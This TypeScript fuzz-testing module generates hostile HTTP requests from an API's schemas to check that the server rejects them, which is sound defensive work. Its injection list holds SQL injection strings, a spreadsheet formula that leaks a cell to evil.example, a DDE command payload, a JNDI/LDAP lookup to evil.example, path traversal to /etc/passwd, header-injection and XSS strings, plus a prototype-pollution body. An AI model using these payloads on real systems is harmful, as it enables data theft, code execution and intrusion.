// fast-check arbitraries of hostile requests, built from an operation's JSON Schema. Each
// FAMILY is one named generator: the fuzz suite asserts what its answers must be, and a family
// can be marked pending (known-defects.ts) without silencing the others.
import fc from "fast-check";
import type { JsonSchema, Operation } from "./operations.ts";
import { pathWith } from "./operations.ts";
import { describeProbe, type Probe } from "./requests.ts";
import { exampleOf, idPrefixOf, type IdFor, sampleMatching } from "./schema-example.ts";

export const MAX_BODY_BYTES = 1_000_000;
/** The oversized-stream family sends this much; reading more than half of it before a 413 is buffering. */
export const STREAM_BYTES = 8 * 1024 * 1024;

export type Family =
  | "body-field" // one to three fields of a valid body replaced by hostile values
  | "body-field-surrogate-nul" // a lone surrogate or NUL inside an otherwise valid string
  | "body-shape" // the whole body is the wrong shape: not an object, deeply nested, huge, polluted
  | "malformed-json" // text that is not JSON
  | "content-type" // a valid body sent as something other than JSON
  | "oversized" // more than 1,000,000 bytes of ASCII JSON
  | "oversized-multibyte" // more than 1,000,000 bytes but fewer characters (UTF-8)
  | "oversized-stream" // a body that keeps coming: the 413 must not wait for its end
  | "query" // hostile query-string values
  | "query-limit-high" // page sizes 99–200, valid, at the D1 100-parameter boundary
  | "path" // hostile path parameters
  | "headers"; // hostile Authorization, Idempotency-Key, If-Match

/** What a family's answers must be, beyond "a 4xx problem document or a valid 2xx". */
export const EXPECTED_STATUS: Partial<Record<Family, number>> = { "malformed-json": 400, "content-type": 415, oversized: 413, "oversized-multibyte": 413, "oversized-stream": 413 };

export interface HostileCase {
  family: Family;
  probe: Probe;
  /** The JSON value sent, when there is one: a 2xx must mean it was valid. */
  sent?: unknown;
  /** The sent strings include a lone surrogate or NUL: must be refused. */
  hasSurrogateOrNul?: boolean;
  /** For streamed bodies: how many bytes the server pulled. */
  pulledBytes?: () => number;
}

export interface Context {
  op: Operation;
  token: string | null;
  /** Real ids of franchise A (by prefix, all variants) for fields that hold ids. */
  aIds: Map<string, string[]>;
  /** Ids that belong to franchise B: cross-tenant references inside a hostile body. */
  bIds: string[];
}

// ---- hostile leaf values --------------------------------------------------------------

const INJECTIONS = [
  "'; DROP TABLE customers; --",
  "\" OR 1=1 --",
  "Robert'); DELETE FROM invoices WHERE ('1'='1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie: x=1",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
];
const UNICODE_EDGES = ["\u202eevil\u202c", "\u200f\u200e", "a\u200bb", "\ufeffBOM", "👩‍👩‍👧‍👦", "e\u0301\u0301\u0301", "＝1+1", "\u2028\u2029", "Z̸̢͎̍a̵l̷g̸o", "ß".repeat(50)];
const SURROGATES_AND_NUL = ["\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\u0000", "abc\u0000def", "\u0000'; DROP TABLE x; --"];
const IMPOSSIBLE_DATES = ["2026-02-30", "2026-13-01", "2026-00-10", "2025-02-29", "0000-00-00", "2026-2-3", "20260115", "2026-01-15T00:00:00Z", "+02026-01-15", "9999-99-99", "2026-04-31"];
const IMPOSSIBLE_DATETIMES = ["2026-02-30T10:00:00Z", "2026-01-01T25:00:00Z", "2026-01-01T10:61:00Z", "2026-01-01", "yesterday", "2026-01-01T10:00:00+25:00", "1970-01-01T00:00:00"];
const CURRENCIES = ["EUR", "USD", "GBP", "JPY", "XXX", "eur", "EURO", "€", "", "BTC"];
const NUMBERS = [-1, 0, 0.5, -0.5, 1e16, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), 1e15, 1e15 + 1, 1e308, -1e308, 1.23456789, 5e-324, Number.MAX_SAFE_INTEGER];

const deep = (depth: number): unknown => {
  let v: unknown = "bottom";
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

const wrongTypes: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(null, true, 0, -1, "", "text", [], [1, 2], {}, { a: 1 }, deep(200));

function stringHostile(schema: JsonSchema, ctx: Context): fc.Arbitrary<unknown> {
  const prefix = idPrefixOf(schema);
  const max = typeof schema.maxLength === "number" ? schema.maxLength : 1000;
  // Weights: huge values are costly per case, so they come up rarely (but every run has some).
  const options: Array<fc.Arbitrary<unknown> | fc.WeightedArbitrary<unknown>> = [
    { arbitrary: wrongTypes, weight: 6 },
    { arbitrary: fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES), weight: 4 },
    { arbitrary: fc.constant("x".repeat(max + 1)), weight: 2 },
    { arbitrary: fc.constant("y".repeat(Math.min(max + 1 + 50_000, 200_000))), weight: 1 },
    { arbitrary: fc.constantFrom("", " ", "\t\n", "   padded   "), weight: 2 },
    { arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }), weight: 2 },
  ];
  if (schema.format === "date") options.push(fc.constantFrom(...IMPOSSIBLE_DATES), fc.date({ min: new Date("1900-01-01"), max: new Date("2200-01-01"), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)));
  if (schema.format === "date-time") options.push(fc.constantFrom(...IMPOSSIBLE_DATETIMES), fc.date({ noInvalidDate: true }).map((d) => d.toISOString()));
  if (schema.format === "email") options.push(fc.constantFrom("not-an-email", "a@b", "@example.com", "a@@example.com", "x".repeat(320) + "@example.com"), fc.emailAddress());
  if (Array.isArray(schema.enum)) options.push(fc.constantFrom(...schema.enum.map((v: unknown) => (typeof v === "string" ? v.toUpperCase() : v)), "unknown", ` ${schema.enum[0]}`));
  if (prefix) {
    const own = ctx.aIds.get(prefix) ?? [];
    const others = [...ctx.aIds.values()].flat();
    options.push(
      fc.constantFrom(...own, ...others, ...ctx.bIds),
      fc.constant(sampleMatching(schema.pattern, 7)),
      fc.constantFrom(`${prefix}_`, `${prefix}_${"0".repeat(27)}`, `${prefix.toUpperCase()}_${"0".repeat(26)}`, `${prefix}_${"0".repeat(25)}'`, `${prefix}_../../x`),
    );
  } else if (typeof schema.pattern === "string") {
    // Random VALID values too: they must be accepted or refused by a business rule, never crash.
    options.push(fc.stringMatching(new RegExp(schema.pattern)));
    if (/\[A-Z\]\{3\}/.test(schema.pattern)) options.push(fc.constantFrom(...CURRENCIES));
  }
  return fc.oneof(...options);
}

function numberHostile(schema: JsonSchema, integer: boolean): fc.Arbitrary<unknown> {
  const bounds = [schema.minimum, schema.maximum, schema.exclusiveMinimum, schema.exclusiveMaximum].filter((b): b is number => typeof b === "number");
  return fc.oneof(
    { arbitrary: wrongTypes, weight: 3 },
    { arbitrary: fc.constantFrom(...NUMBERS, ...bounds.flatMap((b) => [b - 1, b, b + 1, b + 0.5])), weight: 4 },
    fc.constantFrom("12", "1e3", "NaN", "Infinity", "-0"),
    integer ? fc.integer() : fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.bigInt({ min: 2n ** 53n, max: 2n ** 70n }).map((n) => Number(n)),
  );
}

/** A hostile (or occasionally valid) value for the slot this schema describes. */
export function hostileValue(schema: JsonSchema, ctx: Context): fc.Arbitrary<unknown> {
  const type = Array.isArray(schema.type) ? schema.type.find((t: string) => t !== "null") : schema.type;
  const valid = fc.constant(exampleOf(schema, { idFor: (p) => ctx.aIds.get(p)?.[0] ?? `${p}_x` }));
  switch (type) {
    case "string":
      return fc.oneof({ arbitrary: stringHostile(schema, ctx), weight: 5 }, { arbitrary: valid, weight: 1 });
    case "integer":
      return numberHostile(schema, true);
    case "number":
      return numberHostile(schema, false);
    case "boolean":
      return fc.oneof(wrongTypes, fc.constantFrom("true", 1, 0, "false"), fc.boolean());
    case "array": {
      const item = exampleOf(schema.items ?? {}, { idFor: (p) => ctx.aIds.get(p)?.[0] ?? `${p}_x` });
      const over = (schema.maxItems ?? 200) + 1;
      return fc.oneof(
        { arbitrary: wrongTypes, weight: 4 },
        { arbitrary: fc.constant([]), weight: 2 },
        { arbitrary: fc.constant(Array.from({ length: over }, () => item)), weight: 2 },
        { arbitrary: fc.constant(Array.from({ length: 5_000 }, () => item)), weight: 1 },
        { arbitrary: fc.array(hostileValue(schema.items ?? {}, ctx), { minLength: 1, maxLength: 4 }), weight: 4 },
        { arbitrary: valid, weight: 1 },
      );
    }
    case "object":
      return fc.oneof({ arbitrary: wrongTypes, weight: 4 }, fc.constant({}), fc.constant({ unexpected: true }), fc.constant(deep(1_000)), valid);
    default:
      return wrongTypes;
  }
}

// ---- where to put them: slots of a body --------------------------------------------------

interface Slot {
  path: Array<string | number>;
  schema: JsonSchema;
}

/** Every property (and first array item) of a schema, down to depth 4. */
export function slotsOf(schema: JsonSchema, path: Array<string | number> = [], into: Slot[] = []): Slot[] {
  if (path.length >= 4) return into;
  for (const [name, sub] of Object.entries<JsonSchema>(schema.properties ?? {})) {
    into.push({ path: [...path, name], schema: sub });
    slotsOf(sub, [...path, name], into);
  }
  if (schema.items && typeof schema.items === "object") {
    into.push({ path: [...path, 0], schema: schema.items });
    slotsOf(schema.items, [...path, 0], into);
  }
  return into;
}

function setAt(root: any, path: Array<string | number>, value: unknown): any {
  if (path.length === 0) return value;
  const [head, ...rest] = path;
  const container = root !== null && typeof root === "object" ? (Array.isArray(root) ? [...root] : { ...root }) : typeof head === "number" ? [] : {};
  container[head as any] = setAt(container[head as any], rest, value);
  return container;
}

const stringSlots = (slots: Slot[]) => slots.filter((s) => (Array.isArray(s.schema.type) ? s.schema.type.includes("string") : s.schema.type === "string") && !idPrefixOf(s.schema) && !s.schema.enum && !s.schema.format);

const BAD_CODE_UNITS = /\u0000|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Does any string (key or value) hold NUL or a lone surrogate? */
function hasSurrogateOrNul(value: unknown): boolean {
  if (typeof value === "string") return BAD_CODE_UNITS.test(value);
  if (Array.isArray(value)) return value.some(hasSurrogateOrNul);
  if (value !== null && typeof value === "object") return Object.entries(value).some(([k, v]) => BAD_CODE_UNITS.test(k) || hasSurrogateOrNul(v));
  return false;
}

/** encodeURIComponent, except a lone surrogate (which it refuses) goes out as its WTF-8 bytes. */
export function urlEncode(text: string): string {
  return text.replace(/[\ud800-\udbff][\udc00-\udfff]|[\s\S]/g, (ch) => {
    if (ch.length === 1 && ch >= "\ud800" && ch <= "\udfff") {
      const cp = ch.charCodeAt(0);
      return [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join("");
    }
    return encodeURIComponent(ch);
  });
}

// ---- requests ------------------------------------------------------------------------------

function baseProbe(ctx: Context, extraHeaders: Record<string, string> = {}): Probe {
  const idFor: IdFor = (p) => ctx.aIds.get(p)?.[0] ?? `${p}_x`;
  const params: Record<string, string> = {};
  const query = new URLSearchParams();
  for (const p of ctx.op.parameters) {
    if (p.in === "path") params[p.name] = String(exampleOf(p.schema, { idFor }, p.name));
    if (p.in === "query" && p.required) query.set(p.name, String(exampleOf(p.schema, { idFor }, p.name)));
  }
  const qs = query.toString();
  const headers: Record<string, string> = { ...extraHeaders };
  if (ctx.token) headers.authorization = `Bearer ${ctx.token}`;
  return { method: ctx.op.method, url: pathWith(ctx.op.path, params) + (qs ? `?${qs}` : ""), headers };
}

const jsonProbe = (ctx: Context, value: unknown, family: Family): HostileCase => {
  const text = JSON.stringify(value);
  return { family, sent: value, hasSurrogateOrNul: hasSurrogateOrNul(value), probe: { ...baseProbe(ctx, { "content-type": "application/json" }), body: text } };
};

const examples = new WeakMap<Context, unknown>();
/** The operation's valid body (A's first ids), computed once per context. */
function bodyExample(ctx: Context): unknown {
  if (!examples.has(ctx)) examples.set(ctx, exampleOf(ctx.op.body!.schema, { idFor: (p) => ctx.aIds.get(p)?.[0] ?? `${p}_x`, withOptionalIds: true }));
  return examples.get(ctx);
}

/** Limits at or above this are the "query-limit-high" family; the general query family stays below. */
const HIGH_LIMIT_FROM = 99;

function queryCase(ctx: Context, high: boolean): fc.Arbitrary<HostileCase> | undefined {
  const params = ctx.op.parameters.filter((p) => p.in === "query");
  if (params.length === 0) return undefined;
  const limit = params.find((p) => p.name === "limit");
  if (high) {
    if (!limit) return undefined;
    const max = limit.schema.maximum ?? 200;
    return fc.integer({ min: HIGH_LIMIT_FROM, max }).map((n) => {
      const base = baseProbe(ctx);
      return { family: "query-limit-high" as const, probe: { ...base, url: `${base.url}${base.url.includes("?") ? "&" : "?"}limit=${n}` } };
    });
  }
  const belowHigh = (v: string) => !(Number(v.trim()) >= HIGH_LIMIT_FROM && Number(v.trim()) <= (limit?.schema.maximum ?? 200));
  const valueFor = (schema: JsonSchema): fc.Arbitrary<string> =>
    fc
      .oneof(
        fc.constantFrom("", " ", "-1", "0", "0.5", "1e16", "9007199254740993", "NaN", "null", "[]", "{}", "true", "201", "1e1", "0x10", "abc", "%00", "\u0000", "\ud800"),
        fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES, ...IMPOSSIBLE_DATES),
        fc.constant("z".repeat(5_000)),
        fc.string({ unit: "grapheme", maxLength: 30 }),
        fc.integer({ min: -1000, max: 1000 }).map(String),
        schema.pattern ? fc.stringMatching(new RegExp(schema.pattern)) : fc.constant("1"),
        Array.isArray(schema.enum) ? fc.constantFrom(...schema.enum.map(String)) : fc.constant("x"),
      )
      .filter(belowHigh);
  const paramValue = fc.oneof(
    fc.constantFrom(...params).chain((p) => valueFor(p.schema).map((v) => [p.name, v] as [string, string])),
    fc.constantFrom(["unknown_param", "1"], ["limit[]", "1"], ["__proto__", "x"], ["cursor", "bGlt"], ["cursor", btoa("cus_' OR 1=1 --")]) as fc.Arbitrary<[string, string]>,
  );
  return fc.array(paramValue, { minLength: 1, maxLength: 4 }).map((pairs) => {
    const base = baseProbe(ctx);
    const qs = pairs.map(([k, v]) => `${urlEncode(k)}=${urlEncode(v)}`).join("&");
    return { family: "query" as const, probe: { ...base, url: `${base.url}${base.url.includes("?") ? "&" : "?"}${qs}` } };
  });
}

function pathCase(ctx: Context): fc.Arbitrary<HostileCase> | undefined {
  const params = ctx.op.parameters.filter((p) => p.in === "path");
  if (params.length === 0) return undefined;
  const value = fc.oneof(
    fc.constantFrom("x", "0", "..", "%2e%2e", "a%2Fb", "%00", "cus_", "inv_" + "0".repeat(26), "br_" + "A".repeat(26), " ", "null", "undefined", "' OR '1'='1", "\ud800".normalize()),
    fc.constant("q".repeat(4_000)),
    fc.constantFrom(...[...ctx.aIds.values()].flat(), ...ctx.bIds),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 30 }),
  );
  return fc.tuple(fc.constantFrom(...params), value).map(([p, v]) => {
    const idFor: IdFor = (prefix) => ctx.aIds.get(prefix)?.[0] ?? `${prefix}_x`;
    const values = Object.fromEntries(params.map((x) => [x.name, String(exampleOf(x.schema, { idFor }, x.name))]));
    const base = baseProbe(ctx, ctx.op.body ? { "content-type": "application/json" } : {});
    const url = base.url.replace(/^[^?]*/, pathWith(ctx.op.path, values).replace(encodeURIComponent(values[p.name]!), urlEncode(v)));
    const body = ctx.op.body ? JSON.stringify(bodyExample(ctx)) : undefined;
    return { family: "path" as const, probe: { ...base, url, ...(body !== undefined ? { body } : {}) } };
  });
}

function headersCase(ctx: Context): fc.Arbitrary<HostileCase> {
  const header = fc.oneof(
    fc.constantFrom(
      ["authorization", "Bearer"],
      ["authorization", "Bearer  "],
      ["authorization", "Basic dXNlcjpwYXNz"],
      ["authorization", `Bearer llk_${"a".repeat(5_000)}`],
      ["authorization", "Bearer llk_' OR 1=1 --"],
      ["authorization", "Bearer lls_forged"],
      ["authorization", "bearer " + "x".repeat(50)],
      ["idempotency-key", "k".repeat(256)],
      ["idempotency-key", "has space"],
      ["idempotency-key", "key\x7f"],
      ["if-match", "garbage"],
      ["if-match", '"v999999999999"'],
      ["if-match", "W/\"v1\", \"v2\""],
      ["content-length", "0"],
    ) as fc.Arbitrary<[string, string]>,
  );
  return header.map(([name, value]) => {
    const base = baseProbe(ctx, ctx.op.body ? { "content-type": "application/json" } : {});
    const body = ctx.op.body ? JSON.stringify(bodyExample(ctx)) : undefined;
    return { family: "headers" as const, probe: { ...base, headers: { ...base.headers, [name]: value }, ...(body !== undefined ? { body } : {}) } };
  });
}

const MALFORMED = ['{"a":', "{not json}", "{'single': 'quotes'}", '{"trailing": 1,}', "[1, 2", '{"n": NaN}', '{"n": Infinity}', "// comment\n{}", '{"a": "\\x41"}', '{"a": "unterminated}', "\u0000", "{}garbage", '{"a":1}{"b":2}', '{"a": "raw\ncontrol"}', "nul", "tru", "-", '"\\ud800', "{\"a\":01}"];

function bodyCases(ctx: Context): Partial<Record<Family, fc.Arbitrary<HostileCase>>> {
  const body = ctx.op.body;
  const isPost = ctx.op.method !== "GET" && ctx.op.method !== "HEAD";
  if (!isPost) return {};
  const out: Partial<Record<Family, fc.Arbitrary<HostileCase>>> = {};
  const example = body ? bodyExample(ctx) : {};
  const exampleText = JSON.stringify(example);

  out["malformed-json"] = fc.oneof(
    fc.constantFrom(...MALFORMED),
    fc.integer({ min: 1, max: Math.max(1, exampleText.length - 1) }).map((n) => exampleText.slice(0, n)), // truncated: "{" at least
  ).map((text) => ({ family: "malformed-json" as const, probe: { ...baseProbe(ctx, { "content-type": "application/json" }), body: text } }));

  out["content-type"] = fc
    .constantFrom("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/json", "application/jsonx", "application/octet-stream", "", "text/html; charset=utf-8")
    .map((type) => ({ family: "content-type" as const, probe: { ...baseProbe(ctx, type ? { "content-type": type } : {}), body: type === "" ? new TextEncoder().encode(exampleText) : exampleText } }));

  const bigField = (chars: number, ch: string) => `{"padding":"${ch.repeat(chars)}"}`;
  out.oversized = fc.constantFrom(MAX_BODY_BYTES - 13 + 1, MAX_BODY_BYTES * 2).map((n) => ({ family: "oversized" as const, probe: { ...baseProbe(ctx, { "content-type": "application/json" }), body: bigField(n, "a") } }));
  // 500,001 × "é" is 1,000,002 bytes of UTF-8 but only ~500k characters.
  out["oversized-multibyte"] = fc.constant(0).map(() => ({ family: "oversized-multibyte" as const, probe: { ...baseProbe(ctx, { "content-type": "application/json" }), body: bigField(500_001, "é") } }));
  // 8 MB in 64 KB chunks, counted as they are pulled: a server that enforces the limit stops
  // reading soon after 1,000,000 bytes; one that buffers first reads all 8 MB, then says 413.
  out["oversized-stream"] = fc.constant(0).map(() => {
    const chunk = new TextEncoder().encode("a".repeat(65_536));
    const pulled = { bytes: 0 };
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (pulled.bytes === 0) controller.enqueue(new TextEncoder().encode('{"padding":"'));
        if (pulled.bytes >= STREAM_BYTES) return controller.close();
        pulled.bytes += chunk.length;
        controller.enqueue(chunk);
      },
    });
    return { family: "oversized-stream" as const, pulledBytes: () => pulled.bytes, probe: { ...baseProbe(ctx, { "content-type": "application/json" }), body: stream } };
  });

  if (!body) return out;
  const slots = slotsOf(body.schema);
  if (slots.length > 0) {
    const mutation = fc.constantFrom(...slots).chain((slot) => hostileValue(slot.schema, ctx).map((value) => ({ slot, value })));
    out["body-field"] = fc.array(mutation, { minLength: 1, maxLength: 3 }).map((ms) => jsonProbe(ctx, ms.reduce((acc, m) => setAt(acc, m.slot.path, m.value), example), "body-field"));
  }
  const texts = stringSlots(slots);
  if (texts.length > 0) {
    out["body-field-surrogate-nul"] = fc.tuple(fc.constantFrom(...texts), fc.constantFrom(...SURROGATES_AND_NUL)).map(([slot, bad]) => {
      const current = exampleOf(slot.schema, { idFor: (p) => `${p}_x` }, String(slot.path[slot.path.length - 1]));
      const value = `${String(current).slice(0, Math.max(0, (slot.schema.maxLength ?? 100) - bad.length))}${bad}`;
      return jsonProbe(ctx, setAt(example, slot.path, value), "body-field-surrogate-nul");
    });
  }
  out["body-shape"] = fc
    .oneof(
      fc.constantFrom<unknown>(null, 0, "string", true, [], [example], Object.entries(example as object)),
      fc.constant({ ...(example as object), unexpected: "field" }),
      fc.constant(JSON.parse(`{"__proto__": {"admin": true}, ${exampleText.slice(1)}`.replace(/, }$/, "}"))),
      fc.constant(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, i]))),
      fc.constant(deep(2_000)),
      // Each required field left out in turn (a body whose fields are all optional has none to drop).
      ...(Object.keys(example as object).length > 0 ? [fc.constantFrom(...Object.keys(example as object)).map((k) => Object.fromEntries(Object.entries(example as object).filter(([key]) => key !== k)))] : []),
    )
    .map((value) => jsonProbe(ctx, value, "body-shape"));
  return out;
}

/** fast-check prints counterexamples: a one-line request, not a megabyte body. */
const printable = (c: HostileCase): HostileCase => Object.assign(c, { [fc.toStringMethod]: () => `[${c.family}] ${describeProbe(c.probe)}` });

/** Every family that applies to the operation, as arbitraries of hostile requests. */
export function familiesFor(ctx: Context): Partial<Record<Family, fc.Arbitrary<HostileCase>>> {
  const families: Partial<Record<Family, fc.Arbitrary<HostileCase>>> = { ...bodyCases(ctx), headers: headersCase(ctx) };
  const q = queryCase(ctx, false);
  if (q) families.query = q;
  const high = queryCase(ctx, true);
  if (high) families["query-limit-high"] = high;
  const p = pathCase(ctx);
  if (p) families.path = p;
  return Object.fromEntries(Object.entries(families).map(([name, arb]) => [name, arb.map(printable)]));
}
